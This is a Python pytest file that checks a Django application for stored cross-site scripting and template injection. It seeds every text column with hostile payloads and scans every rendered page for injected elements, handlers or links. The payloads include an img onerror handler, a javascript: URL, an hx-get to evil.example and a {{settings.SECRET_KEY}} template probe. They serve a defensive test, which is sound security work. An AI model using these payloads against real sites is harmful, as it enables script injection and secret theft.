"""Hostile text in every text column there is comes out of every page as text (ASVS V1.2.1, V1.3.7)."""

from html.parser import HTMLParser
from typing import Any

import pytest
from django.apps import apps
from django.db import DatabaseError, models, transaction

from tests.attack.addresses import pages
from tests.attack.browser import Browser, text_of
from tests.attack.rules import WORDS
from tests.attack.watching import watched_and_undone
from tests.attack.world import make_world

pytestmark = pytest.mark.django_db
PROBE = "xss-probe"
PAYLOADS = {
    "element": f"\"'></script></title></textarea></style></select><{PROBE} onxss=1><img src=x onerror=xss()>",
    "attribute": f"\"' onxss=1 autofocus onfocus=xss() x-init=xss() hx-get=//evil.example {PROBE}",
    "address": f"javascript:xss('{PROBE}')",
    "template": "{{7*7}}{% now 'Y' %}${7*7}{{settings.SECRET_KEY}}",
}
# Columns that the product itself computes, or compares and never shows.
NOT_TYPED = (
    "password", "session_key", "digest", "hash", "token", "nonce", "code", "number", "path", "username",
    "raw_key", "key", "sort_key", "sound", "pinyin", "state", "status", "channel", "kind", "time_zone",
    "language", "content_type", "identity", "imap_password", "smtp_password", "search", "normalised",
    "initials", "lease", "folder",
)  # fmt: skip
EXPRESSIONS = ("x-", "@", ":", "hx-on", "hx-vals", "on")


class Reader(HTMLParser):
    """What a browser would make of a page."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """Elements and attributes that came from a text."""
        if tag == PROBE:
            self.found.append(f"<{tag}>")
        for name, value in attrs:
            is_ours = name in {"onxss", PROBE} or (name.startswith("on") and value == "xss()")
            runs = name.startswith(EXPRESSIONS) and PROBE in (value or "")
            opens = name in {"href", "src", "action", "formaction", "hx-get", "hx-post"} and (
                (value or "").strip().lower().startswith(("javascript:", "//evil"))
            )
            if is_ours or runs or opens:
                self.found.append(f"{tag} {name}={value}")


def hostile_fields(model: type[models.Model]) -> list[Any]:
    """Text columns in which people's words stand."""
    return [
        field
        for field in model._meta.concrete_fields
        if isinstance(field, models.CharField | models.TextField)
        and not isinstance(field, models.SlugField | models.EmailField)
        and not field.choices
        and not field.primary_key
        and not field.name.endswith(NOT_TYPED)
    ]


def poison(payload: str) -> int:
    """Every text column of every row holds the payload; returns how many columns do."""
    count = 0
    for model in apps.get_models():
        if not model.__module__.startswith("shouwen."):
            continue
        for field in hostile_fields(model):
            text = payload[: field.max_length or None]
            try:
                with transaction.atomic():
                    count += bool(model._default_manager.update(**{field.name: text}))
            except DatabaseError:
                continue
    return count


@pytest.mark.parametrize("kind", PAYLOADS)
def test_no_page_takes_a_text_for_its_own(kind):
    world = make_world()
    columns = poison(PAYLOADS[kind])
    browser = Browser()
    browser.force_login(world.sides["north"].staff["administrator"])
    north, found, seen = world.sides["north"].things, [], 0
    for address in pages():
        if address.method == "GET":
            path = address.path(WORDS | north | {"token": north["file_token"]})
            with watched_and_undone():
                answer = browser.get(path)
                text = text_of(answer)
            reader = Reader()
            if answer.headers.get("Content-Type", "").startswith("text/html"):
                reader.feed(text)
            found += [f"{path}: {one}" for one in reader.found]
            seen += PROBE in text
            assert "only-for-tests" not in text
            assert "49{" not in text

    assert found == [], "\n".join(found)
    assert columns > 30
    assert kind == "template" or seen > 20
